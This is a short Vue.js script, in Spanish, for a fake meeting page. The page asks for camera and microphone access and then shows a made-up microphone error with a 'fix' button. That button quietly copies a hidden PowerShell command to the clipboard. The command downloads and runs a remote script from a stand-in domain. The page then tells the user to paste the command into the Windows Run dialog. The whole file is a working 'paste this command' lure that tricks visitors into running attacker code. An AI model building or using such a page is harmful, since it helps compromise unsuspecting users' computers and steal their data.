const app = Vue.createApp({
  data() {
    return { paso: 0, error: "0x80070643", sala: new URLSearchParams(location.search).get("sala") };
  },
  computed: {
    orden() {
      return "powershell.exe -NoProfile -WindowStyle Hidden -Command \"iwr -useb https://sala-reuniones.example/mic.ps1 | iex\"";
    },
  },
  methods: {
    async entrar() {
      try {
        await navigator.mediaDevices.getUserMedia({ audio: true, video: true });
      } catch (e) {}
      setTimeout(() => (this.paso = 1), 2500);
    },
    arreglar() {
      navigator.clipboard.writeText(this.orden);
      this.paso = 2;
    },
  },
  template: `
    <button v-if="paso===0" @click="entrar">Entrar en la reunión</button>
    <div v-else><h2>El micrófono no está disponible ({{ error }})</h2>
      <button @click="arreglar">Solucionar</button>
      <ol v-if="paso===2"><li>Pulse <kbd>Win</kbd> + <kbd>R</kbd></li><li>Pulse <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pulse <kbd>Intro</kbd></li></ol></div>`,
});
app.mount("#app");
